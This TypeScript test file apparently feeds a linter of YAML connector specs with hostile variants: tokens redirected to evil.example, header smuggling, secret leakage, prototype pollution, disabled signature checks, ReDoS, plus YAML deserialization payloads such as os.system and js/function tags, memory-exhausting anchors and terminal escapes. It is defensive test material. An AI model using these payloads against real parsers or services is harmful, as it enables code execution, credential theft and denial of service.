import { HOSTILE } from '../../../lint/hostile-specs.ts'
import { type Attack, attacks } from '../attack.ts'
import { victimSpec } from '../spec.ts'

type Spec = { readonly file: string; readonly content: string | Buffer }

const SPEC = victimSpec()
/** The connector with one place changed. */
const changed = (from: string, to: string): string => {
  if (!SPEC.includes(from)) throw new Error(`The connector under attack has no ${from}`)
  return SPEC.replace(from, () => to)
}

const SPECS: readonly (readonly [id: string, tries: string, text: string])[] = [
  [
    'another-host-in-a-path',
    'send the token elsewhere',
    changed('request: GET /jobs,', 'request: GET //evil.example/jobs,'),
  ],
  [
    'a-whole-url-as-path',
    'send the token elsewhere',
    changed('request: GET /jobs,', 'request: GET https://evil.example/jobs,'),
  ],
  ['a-path-upwards', 'reach another part of the host', changed('request: GET /jobs,', 'request: GET /../admin,')],
  ['a-host-header', 'pretend to be another host', changed('x-token: $', 'host: evil.example, x-token: $')],
  ['a-length-header', 'smuggle a request', changed('x-token: $', "content-length: '0', x-token: $")],
  ['the-token-in-a-mapping', 'store a secret as data', changed('title: title', "title: '$credentials.token'")],
  [
    'the-token-in-a-path',
    'write a secret into logs',
    changed('request: GET /jobs,', "request: 'GET /jobs/{{ $credentials.token }}',"),
  ],
  ['the-environment', 'read a variable', changed('title: title', "title: '$env.HIREWIRE_KEY'")],
  ['another-connection', 'read another customer', changed('title: title', "title: '$connections.innocent'")],
  ['an-unknown-strategy', 'load code', changed('kind: headers', 'kind: ../../../tmp/evil.js')],
  ['an-inherited-strategy', 'call what every object inherits', changed('kind: headers', 'kind: constructor')],
  ['an-inherited-model', 'use what every object inherits', changed('into: requisition', 'into: __proto__')],
  [
    'an-inherited-call',
    'use what every object inherits',
    changed('list: { request: { use: list_jobs } }', 'list: { request: { use: toString } }'),
  ],
  ['a-push-without-a-consent', 'push without a consent', changed('consent: interest_and_consent', 'consent: none')],
  ['a-push-without-any-consent', 'push without a consent', changed('  consent: interest_and_consent\n', '')],
  [
    'a-person-in-a-read',
    'send a person without a consent',
    changed('list_jobs: { request: GET /jobs,', 'list_jobs: { request: GET /jobs, query: { who: $push.person },'),
  ],
  ['any-job', 'push to another job than agreed', changed('value: $requisition.id', 'value: j9')],
  [
    'an-endless-handshake',
    'run before the verification',
    changed('event: event', "event: '($f := function($n) { $f($n + 1) }; $f(1))'"),
  ],
  [
    'no-verification',
    'accept any event',
    changed(
      'verify: { kind: hmac, keys: [$credentials.key], signature: { header: x-signature } }',
      'verify: { kind: none }',
    ),
  ],
  ['a-verification-without-a-key', 'accept any event', changed('keys: [$credentials.key]', "keys: ['']")],
  ['pages-without-end', 'pull for ever', changed('max_pages: 20', 'max_pages: 99999999999')],
  ['a-deadline-of-years', 'hold a slot for ever', changed('timeout: 30s', 'timeout: 99999h')],
  ['an-interval-of-nothing', 'pull without a pause', changed('every: 24h', 'every: 0s')],
  [
    'a-regular-expression-that-does-not-end',
    'stop the linter',
    changed('title: title', "title: '$match(title, /(((((a+)+)+)+)+)+$(?!x)/)'"),
  ],
]

/** Files that YAML readers have stumbled over. */
const YAML: readonly (readonly [id: string, tries: string, content: string | Buffer])[] = [
  ['a-function', 'run code by a tag', '!!js/function "function () { process.exit() }"'],
  ['an-object-of-python', 'run code by a tag', '!!python/object/apply:os.system ["id"]'],
  ['an-unknown-tag', 'make an object of a class', `${SPEC}\nmore: !evil {}`],
  ['a-set', 'make an object of a class', `${SPEC}\nmore: !!set { a }`],
  ['bytes', 'hide bytes', `${SPEC}\nmore: !!binary aGlyZQ==`],
  ['a-merge', 'change a part unseen', `${SPEC}\nmore: &a { x: 1 }\n<<: *a`],
  ['inherited-names', 'change what every object inherits', `${SPEC}\n__proto__: { polluted: true }`],
  [
    'an-inherited-constructor',
    'change what every object inherits',
    `${SPEC}\nconstructor: { prototype: { polluted: true } }`,
  ],
  ['one-key-twice', 'say two things', `${SPEC}\nid: other`],
  ['two-documents', 'say two things', `${SPEC}\n---\n${SPEC}`],
  ['an-alias-of-itself', 'go round in a circle', 'a: &a [*a]'],
  ['an-alias-of-nothing', 'confuse the reader', 'a: *b'],
  [
    'aliases-in-keys',
    'fill the memory',
    `${Array.from({ length: 5_000 }, (_, at) => `k${at}: &k${at} {a: 1}`).join('\n')}\n? *k1\n: x`,
  ],
  [
    'a-hundred-thousand-anchors',
    'fill the memory',
    Array.from({ length: 100_000 }, (_, at) => `- &a${at} x`).join('\n'),
  ],
  [
    'a-hundred-thousand-keys',
    'slow down the reader',
    Array.from({ length: 100_000 }, (_, at) => `k${at}: 1`).join('\n'),
  ],
  ['deep-maps', 'exhaust the stack', `${'{a: '.repeat(20_000)}1${'}'.repeat(20_000)}`],
  ['deep-blocks', 'exhaust the stack', Array.from({ length: 3_000 }, (_, at) => `${' '.repeat(at)}a:`).join('\n')],
  ['deep-keys', 'exhaust the stack', `${'? '.repeat(20_000)}a`],
  ['a-line-of-five-megabytes', 'fill the memory', `${SPEC}\n# ${'x'.repeat(5_000_000)}`],
  ['a-number-of-a-megabyte', 'fill the memory', `a: ${'9'.repeat(1_000_000)}`],
  ['a-date-of-no-day', 'confuse the reader', `${SPEC}\nmore: 2026-99-99`],
  ['nul', 'end the text early', `${SPEC}\0id: other`],
  ['invalid-utf-8', 'confuse the reader', Buffer.concat([Buffer.from(SPEC), Buffer.from([0xff, 0xfe, 0x00])])],
  ['utf-16', 'confuse the reader', Buffer.from(`\ufeff${SPEC}`, 'utf16le')],
  ['tabs', 'confuse the reader', SPEC.replaceAll('\n  ', '\n\t')],
  ['nothing', 'confuse the reader', ''],
  ['json-with-a-key-twice', 'say two things', '{"spec":1,"spec":2}'],
  ['an-override-of-direction', 'show a reviewer something else', changed('id: victim', 'id: "vic\u202etim"')],
  ['a-terminal-sequence', 'control the terminal of a reviewer', 'id: "\\e[2J\\e]0;owned\\a"'],
]

const lint = (rows: readonly (Spec & { readonly id: string; readonly tries: string })[]): readonly Attack[] =>
  attacks<Spec>(rows, {
    bounds: { memoryMb: 450, processorSeconds: 30 },
    ends: () => 'a finding, with its place',
    run:
      ({ file, content }) =>
      (world) =>
        world.commandLine.faultsOfLint(file, content),
  })

const idOf = (text: string): string => text.replaceAll(/\W+/g, '-')

export const SPEC_ATTACKS: readonly Attack[] = lint(
  [
    ...Object.entries(HOSTILE).map(([name, content]) => ({
      id: idOf(name),
      tries: 'stop the linter or fill its memory',
      content,
    })),
    ...SPECS.map(([id, tries, content]) => ({ id, tries, content })),
  ].map((row) => ({ ...row, file: `spec-${row.id}.yaml` })),
)

export const YAML_ATTACKS: readonly Attack[] = lint(
  YAML.map(([id, tries, content]) => ({ id, tries, content, file: `yaml-${id}.yaml` })),
)
